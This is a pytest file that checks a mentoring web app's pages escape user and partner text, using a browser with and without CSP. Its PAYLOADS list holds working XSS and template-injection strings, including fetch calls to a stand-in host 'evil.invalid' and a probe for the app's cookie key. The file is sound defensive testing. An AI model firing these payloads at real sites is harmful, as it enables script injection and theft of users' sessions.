"""Words that people and files say stay words: no page runs, fetches or becomes anything of them.

The payloads stand in everything that a person, a transcript, a file of the partner or a pack can
say; every page of the app is opened in a real browser, once as it is and once with its policy
(CSP) switched off, so that escaping alone has to hold.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
from playwright.sync_api import Browser, Page
from web_home import Served, served
from web_walk import addresses

from coach import Coach, Goal, Person
from coach.app import clock
from coach.embedding import HashedNgrams
from coach.records import Agreement
from coach.render.exchange import shared_text
from coach.web.door import ENTRANCE
from coach.web.showing import environment

pytestmark = pytest.mark.allow_hosts(["127.0.0.1"])

ROOT = Path(__file__).resolve().parents[1]
WHO = "planted"
EVIL = "http://evil.invalid/x"
RAN = "window.ran=1;document.title=`ran`;fetch(`http://evil.invalid/ran`)"

PAYLOADS = (
    f"<script>{RAN}</script>",
    f"<ScRiPt >{RAN}</sCrIpT >",
    f"</p></main><script src={EVIL}></script>",
    f'"><script>{RAN}</script>',
    f"'><script>{RAN}</script>",
    f"</title></textarea></script><script>{RAN}</script>",
    f"<img src=x onerror={RAN}>",
    f"<img src={EVIL}>",
    f'" onmouseover="{RAN}" autofocus onfocus="{RAN}" x="',
    f"' onfocus='{RAN}' autofocus tabindex=1 x='",
    f"` onclick=`{RAN}` ",
    f"<svg onload={RAN}>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><image href={EVIL} /><use href={EVIL}#a /></svg>",
    f"<math><mtext><style><img src onerror={RAN}></style></mtext></math>",
    f"<a href=javascript:{RAN}>a</a>",
    f"javascript:{RAN}",
    f"[a link](javascript:{RAN}) ![a picture]({EVIL})",
    f"![]({EVIL} 'a') [a]: {EVIL} <{EVIL}>",
    "{{ 7*7 }} {% include 'base.html' %} {# not said #} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__ }} {{ request.app.state.keys.cookie }}",
    f"<!--><script>{RAN}</script>--> <!-- ",
    f"*/ body {{background:url({EVIL})}} /* <style>@import '{EVIL}';</style>",
    f"<link rel=stylesheet href={EVIL}><base href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><input name=password autofocus onfocus={RAN}><button>Go</button></form>",
    f"<iframe src={EVIL}></iframe><object data={EVIL}></object><embed src={EVIL}>",
    f"<div hx-get={EVIL} hx-trigger=load></div>",
    f'<div hx-on:load="{RAN}" hx-on::after-init="{RAN}" hx-trigger=load hx-get="/"></div>',
    f'" hx-get="{EVIL}" hx-trigger="load" hx-vals="js:{{{RAN}}}" x="',
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;img src=x onerror=window.ran=1&#62; &quot;&gt;",
    f"\u202e<script>{RAN}</script>\u202c \u2066a\u2069 \u200bz\u200bw\ufeff\u00ad",
    "a\u2028b\u2029c \ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    f"<details open ontoggle={RAN}><summary>a</summary></details>",
    f"<video><source onerror={RAN}></video><audio src={EVIL} autoplay onerror={RAN}></audio>",
    f"<template shadowrootmode=open><script>{RAN}</script></template><noscript><img src={EVIL}>",
    "ends in a backslash \\ and a null \\x00 \\u003cscript\\u003e",
    "<x " + "a" * 300 + ">",
)

SEEN = """() => {
  const found = [];
  for (const one of document.querySelectorAll("*")) {
    const name = one.localName;
    if (["script", "base", "iframe", "object", "embed", "x", "math", "video", "audio", "template",
         "style"].includes(name) && !(name === "script" && one.src.startsWith(
         location.origin + "/static/") && !one.textContent)) found.push(one.outerHTML);
    if (name === "meta" && one.httpEquiv) found.push(one.outerHTML);
    for (const {name: key, value} of one.attributes) {
      if (/^on|^hx-on/i.test(key)) found.push(one.outerHTML);
      if (["href", "src", "action", "formaction", "data", "poster"].includes(key)
          || /^hx-(get|post|put|patch|delete)$/.test(key)) {
        const url = new URL(value, location.href);
        if (url.origin !== location.origin) found.push(one.outerHTML);
      }
      if (/^hx-(vals|headers)$/.test(key) && /js:/.test(value)) found.push(one.outerHTML);
    }
  }
  if (window.ran) found.push("ran");
  return found.map((html) => html.slice(0, 200));
}"""
"""Everything in a page that is not ours: elements, handlers, and addresses of elsewhere."""
OPEN_ALL = "() => document.querySelectorAll('details').forEach((one) => { one.open = true; })"


def plant(home: Path, files: Path) -> None:
    """A pair whose every word is a payload."""
    files.mkdir()
    (home / "knowledge").mkdir(parents=True)
    pack = (ROOT / "knowledge" / "four-ps.md").read_text(encoding="utf-8")
    told = PAYLOADS[0].replace('"', "'")
    pack = pack.replace("title: ", f'title: "{told}" #', 1).replace("How to", f"{told} How to")
    pack = pack.replace("text: What ", f"text: {told} What ").replace("\n---\n", f"\n---\n{told}\n")
    (home / "knowledge" / "four-ps.md").write_text(pack, encoding="utf-8")
    dana = Person(name=f"Dana {PAYLOADS[3]}", title=PAYLOADS[6], labels=("Dana", PAYLOADS[0]))
    karthik = Person(name=f"Karthik {PAYLOADS[7]}", title=PAYLOADS[8], labels=("Karthik",))
    with Coach(home) as coach:
        coach.store.set_me(karthik)
        coach.add(
            WHO,
            mentor=dana,
            mentee=karthik,
            me="mentee",
            agreement=Agreement(off_limits=(f"merganser {PAYLOADS[11]}",)),
        )
        coach.consent(WHO, ["mentor", "mentee"], how=PAYLOADS[12])
        for number, payload in enumerate(PAYLOADS):
            coach.add_goal(
                WHO,
                Goal(
                    id=f"g{number + 1}",
                    text=f"Run the review alone {payload}",
                    specific=payload,
                    measurable=payload if number % 2 else None,
                    relevant=payload,
                ),
            )
        for topic, payload in zip(coach.agreement(WHO), PAYLOADS * 2, strict=False):
            coach.set_term(WHO, topic.topic, payload)
        for number, day in enumerate(("2025-09-03", "2025-09-17"), 1):
            _hear(coach, files / f"call {number} '><img src=x onerror=alert(1)>.txt", day, number)
        coach.confirm(WHO, "01")
        for promise, payload in zip(coach.commitments(WHO), PAYLOADS, strict=False):
            coach.edit_commitment(WHO, promise.id, action=f"send {payload}")
        _answer_all(coach)
        _tell(coach, files)


def _hear(coach: Coach, file: Path, day: str, number: int) -> None:
    words = [f"Dana: How was the week? {PAYLOADS[0]}"]
    for place, payload in enumerate(PAYLOADS):
        flat = " ".join(payload.split())
        words.append(f"Karthik: I'll send you the report {place} {number} {flat} by Friday.")
        words.append(f"Dana: What I learned is that {flat} works. I'll ask Luis about {flat}.")
        words.append(f"Karthik: The big win was {flat}. My goal is to run {flat} by May.")
    if number == 2:
        words.append("Karthik: Off the record, <script>window.ran=1</script> is for nobody.")
        words += [f"Karthik: Yes, I sent you the report {place} 1 on Thursday." for place in (1, 2)]
        words.append("Dana: Let's talk again on Wednesday the first of October.")
    file.write_text("\n".join(words), encoding="utf-8")
    coach.recap(file, who=WHO, held_on=day)


def _answer_all(coach: Coach) -> None:
    from coach.given import answer_to

    pair = coach.relationship(WHO)
    questions = [(one.id, one.text, None) for one in coach.frameworks["pre-call"].kinds("question")]
    questions += [(id, q.text, q.about) for id, q in coach.open_questions(WHO, "mentee")[:6]]
    for number, (id, asked, about) in enumerate(questions):
        said = {"pair": pair, "role": "mentee", "asked": asked, "about": about, "at": clock.now()}
        text = " ".join(PAYLOADS[number::4])
        coach.answer(answer_to(id, text, shared=number % 2 == 0, **said))  # type: ignore[arg-type]


def _tell(coach: Coach, files: Path) -> None:
    """What a partner's file says of both: planted too."""
    pair = coach.relationship(WHO)
    with Coach(files / "theirs") as theirs:
        theirs.add("k", mentor=pair.mentor, mentee=pair.mentee, me="mentor")
        theirs.consent("k", ["mentor", "mentee"])
        (files / "theirs.txt").write_text(
            "Dana: I'll buy the cake by Friday.\nKarthik: I'll ring the supplier on Monday.\n"
        )
        theirs.recap(files / "theirs.txt", who="k", held_on="2025-09-10")
        theirs.confirm("k", "01")
        for promise, payload in zip(theirs.commitments("k"), PAYLOADS[13:], strict=False):
            theirs.edit_commitment("k", promise.id, action=f"order {payload}")
        (files / "theirs.md").write_text(shared_text(theirs.share("k")), encoding="utf-8")
    coach.receive(files / "theirs.md", WHO)


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    folder = tmp_path_factory.mktemp("escape")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("coach.embedding.default_embedder", lambda *_: HashedNgrams())
        plant(folder / "home", folder / "files")
        with served(folder / "home", model="openai:x", base_url="http://127.0.0.1:9/v1") as running:
            yield running


def visited(browser: Browser, app: Served, **context: Any) -> Iterator[tuple[str, Page, list[str]]]:
    """Each page of the app, opened, with what went wrong on it."""
    seen = browser.new_context(**context)
    seen.add_cookies([app.cookie])
    page = seen.new_page()
    wrong: list[str] = []
    page.on("console", lambda m: wrong.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda error: wrong.append(str(error)))
    page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda r: None if r.url.startswith(app.url) else wrong.append(r.url))
    for address in pages_of(app):
        wrong.clear()
        page.goto(app.url + address)
        page.evaluate(OPEN_ALL)
        yield address, page, wrong
    seen.close()


def pages_of(app: Served) -> Iterator[str]:
    """The addresses that are pages; others are files and JSON, which no browser takes for HTML."""
    headers = app.headers | {"connection": "close"}
    told: dict[str, Any] = {"headers": headers, "trust_env": False, "timeout": 60}
    with httpx2.Client(base_url=app.url, **told) as client:
        for route, there in addresses(app.coach, most=3).items():
            found = {address: client.get(address) for address in there if address != ENTRANCE}
            assert route == ENTRANCE or any(one.is_success for one in found.values()), (
                f"{route}: tests/web_walk.py does not know how to fill it in"
            )
            for address, answer in found.items():
                assert answer.status_code < 500, address
                assert answer.headers["x-content-type-options"] == "nosniff"
                if answer.is_success and answer.headers["content-type"].startswith("text/html"):
                    yield address


def test_there_are_thirty_and_more() -> None:
    assert len(set(PAYLOADS)) >= 30


def test_no_word_becomes_anything_on_any_page(browser: Browser, app: Served) -> None:
    pages = 0
    for address, page, wrong in visited(browser, app):
        assert page.evaluate(SEEN) == [], address
        assert wrong == [], address
        pages += 1
    assert pages >= 30


def test_escaping_holds_without_the_policy(browser: Browser, app: Served) -> None:
    shown = ""
    for address, page, wrong in visited(browser, app, bypass_csp=True):
        assert page.evaluate(SEEN) == [], address
        assert wrong == [], address
        shown += page.content()
    assert "&lt;script&gt;" in shown, "payloads do stand on the pages"
    assert app.keys.cookie not in shown and ">49 " not in shown, "no word is a template"


def test_a_page_that_did_not_escape_would_be_seen(
    browser: Browser, app: Served, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(environment(), "autoescape", False)
    environment().cache.clear()  # type: ignore[union-attr]
    try:
        address, page, wrong = next(visited(browser, app, bypass_csp=True))
        found = page.evaluate(SEEN) + wrong
    finally:
        environment().cache.clear()  # type: ignore[union-attr]
    assert address == "/" and found
